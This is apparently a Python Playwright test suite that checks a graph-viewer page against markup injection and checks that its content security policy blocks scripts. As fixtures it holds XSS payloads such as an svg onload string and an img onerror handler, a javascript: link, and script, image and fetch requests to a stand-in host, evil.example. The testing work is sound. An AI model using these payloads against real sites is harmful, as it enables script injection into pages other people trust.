"""Names, quotes, titles, addresses and ids that try to become markup stay text."""

import json
import re

import graphs
import pytest

ALLOWED = {"http:", "https:"}


@pytest.fixture(scope="module")
def hostile(render):
    return render("hostile", graphs.hostile, "--max-nodes", "0")


def survey(page):
    """What the page has become: its scripts, its handlers, its addresses."""
    return page.evaluate("""(() => {
      const all = [...document.querySelectorAll("*")];
      return {
        scripts: all.filter((one) => one.localName === "script").length,
        strange: all.filter((one) => /^(iframe|object|embed|base|img|math|template|frame|marquee)$/
          .test(one.localName)).map((one) => one.outerHTML),
        styles: all.filter((one) => one.localName === "style").length,
        handlers: all.flatMap((one) => [...one.attributes]).filter(({ name }) => /^on/i.test(name))
          .map(({ name, value }) => `${name}=${value}`),
        schemes: [...new Set(all.filter((one) => one.localName === "a" && one.href)
          .map((one) => new URL(one.href, location).protocol))],
        others: all.flatMap((one) => [...one.attributes])
          .filter(({ name }) => /^(xlink:href|src|srcdoc|action|formaction|style|ping)$/.test(name))
          .filter(({ name, ownerElement }) => !(name === "style" && ownerElement.matches(".camera, i")))
          .map(({ name, value }) => `${name}=${value}`),
      };
    })()""")


def test_survey_of_the_page(open_page, hostile):
    page = open_page(hostile)
    found = survey(page)
    assert found["scripts"] == 2 and found["styles"] == 1
    assert found["strange"] == [] and found["handlers"] == [] and found["others"] == []
    assert page.evaluate("document.querySelectorAll('#base g.node').length") > len(graphs.ATTACKS)


def test_every_dossier(open_page, hostile):
    page = open_page(hostile)
    found = page.evaluate("""async () => {
      const data = JSON.parse(document.getElementById("graph-data").textContent);
      const addresses = [
        ...data.entities.map(({ id }) => `entity=${encodeURIComponent(id)}`),
        ...data.arrows.map(({ id }) => `arrow=${encodeURIComponent(id)}`),
      ];
      const problems = [];
      const schemes = new Set();
      for (const address of addresses) {
        location.hash = address;
        await new Promise((done) => addEventListener("hashchange", done, { once: true }));
        const dossier = document.getElementById("dossier");
        if (dossier.hidden) problems.push(`closed: ${address}`);
        for (const one of dossier.querySelectorAll("*")) {
          if (!/^(a|b|bdi|blockquote|button|cite|dd|div|dl|dt|figcaption|figure|h2|h3|header|li|mark|p|section|small|span|ul)$/
            .test(one.localName)) problems.push(one.outerHTML);
          for (const { name } of one.attributes) if (/^on/i.test(name)) problems.push(name);
          if (one.localName === "a" && one.hasAttribute("href")) schemes.add(one.protocol);
          if (one.hasAttribute("autofocus")) problems.push("autofocus");
        }
      }
      return { count: addresses.length, problems, schemes: [...schemes] };
    }""")
    assert found["count"] > 2 * len(graphs.ATTACKS)
    assert found["problems"] == []
    assert set(found["schemes"]) <= ALLOWED | {"file:"}


def test_names_are_shown_as_they_are(open_page, hostile):
    page = open_page(hostile)
    for number in [0, 6, 12, 15]:
        attack = graphs.ATTACKS[number]
        page.fill("#query", attack[:60])
        option = page.locator("#suggestions [role=option] .name").first
        assert attack[:20] in option.inner_text()
    page.fill("#query", "<script>")
    page.keyboard.press("Enter")
    assert "<script>" in page.locator("#dossier h2").inner_text()
    survey_after = survey(page)
    assert survey_after["scripts"] == 2 and survey_after["handlers"] == []


def test_quotes_stand_in_their_texts(open_page, hostile):
    page = open_page(hostile)
    marks = page.evaluate("""async () => {
      const data = JSON.parse(document.getElementById("graph-data").textContent);
      const marks = [];
      for (const { id } of data.arrows) {
        location.hash = `arrow=${encodeURIComponent(id)}`;
        await new Promise((done) => addEventListener("hashchange", done, { once: true }));
        marks.push(document.querySelector("#dossier mark")?.textContent ?? null);
      }
      return marks;
    }""")
    # The program reads line ends in their own way; nothing else may change.
    expected = {f"{attack} struck {attack}" for attack in graphs.ATTACKS}
    assert set(marks) == expected


def test_data_has_no_tags(hostile):
    text = hostile.read_text()
    data = re.search(r'<script type="application/json" id="graph-data">(.*?)</script>', text, re.S)[1]
    assert not re.search("[<>&\u2028\u2029]", data)
    names = {entity["name"] for entity in json.loads(data)["entities"]}
    assert "<svg onload=window.hacked=1;alert(1)>" in names


def test_policy_refuses_what_is_put_in(browser, affair):
    """The policy itself: even markup that got into the page would not run, nor reach the network."""
    page = browser.new_page()
    asked = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.goto(affair.as_uri())
    refused = page.evaluate("""async () => {
      const violations = [];
      addEventListener("securitypolicyviolation", ({ violatedDirective }) =>
        violations.push(violatedDirective));
      const attempts = [
        () => document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png" })),
        () => { document.body.innerHTML = "<img src=x onerror='window.hacked=1'>"; },
        () => document.body.append(Object.assign(document.createElement("script"),
          { src: "https://evil.example/x.js" })),
        () => {
          const script = document.createElement("script");
          script.append("window.hacked = 1");
          document.body.append(script);
        },
        () => {
          const link = document.createElement("a");
          link.href = "javascript:window.hacked=1";
          document.body.append(link);
          link.click();
        },
        () => fetch("https://evil.example/").catch(() => {}),
      ];
      for (const attempt of attempts) try { attempt(); } catch {}
      await new Promise((done) => setTimeout(done, 100));
      return { violations, hacked: window.hacked };
    }""")
    assert refused.get("hacked") is None
    assert {"img-src", "require-trusted-types-for", "connect-src"} <= set(refused["violations"])
    assert asked == [affair.as_uri()]
    page.close()
